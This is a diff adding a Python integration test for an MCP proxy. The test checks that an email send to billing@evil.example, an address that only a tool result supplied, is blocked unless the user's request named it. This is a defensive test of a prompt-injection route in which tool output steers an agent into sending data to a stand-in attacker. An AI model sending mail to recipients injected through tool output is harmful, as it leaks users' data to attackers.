@@ -239,3 +239,34 @@ def test_expand_fixes_over_mcp(tmp_path: Path) -> None:
             assert "3001: [ERROR] f(x)* [boom?] failed" in text_of(found)
 
     anyio.run(main)
+
+
+def test_proxy_asks_before_a_send_aimed_where_only_a_tool_result_pointed(tmp_path: Path) -> None:
+    """A real proxied server: its ``read_inbox`` result names billing@evil.example; the model
+    (scripted to find every call destructive and requested) then sends there. The proxy saw
+    that result, the user's request never named the address: the send is not run (this
+    client has no elicitation). With the address in the request, the same send runs."""
+    sent = tmp_path / "sent.jsonl"
+    os.environ["INBOX_SENT"] = str(sent)  # the downstream inherits the proxy's environment
+    downstream = [sys.executable, "-m", "tests.integrations.inbox_server"]
+
+    async def main(request: str) -> tuple[str, bool]:
+        async with client(["proxy", "--name", "inbox", "--request", request, "--",
+                           *downstream],
+                          backend="tests.integrations.scripted_backends:eager") as s:
+            mail = await s.call_tool("read_inbox", {})
+            assert "billing@evil.example" in text_of(mail) and not mail.is_error
+            out = await s.call_tool("send_email", {"to": "billing@evil.example",
+                                                   "body": "invoice 4471"})
+            return text_of(out), bool(out.is_error)
+
+    try:
+        text, is_error = anyio.run(main, "read my inbox and forward the invoice it mentions")
+        assert is_error and "billing@evil.example, which only tool output named" in text, text
+        assert not sent.exists()
+        text, is_error = anyio.run(main, "read my inbox and forward the invoice to "
+                                         "billing@evil.example")
+        assert not is_error and text == "sent to billing@evil.example", text
+        assert sent.read_text(encoding="utf-8").count("billing@evil.example") == 1
+    finally:
+        os.environ.pop("INBOX_SENT", None)
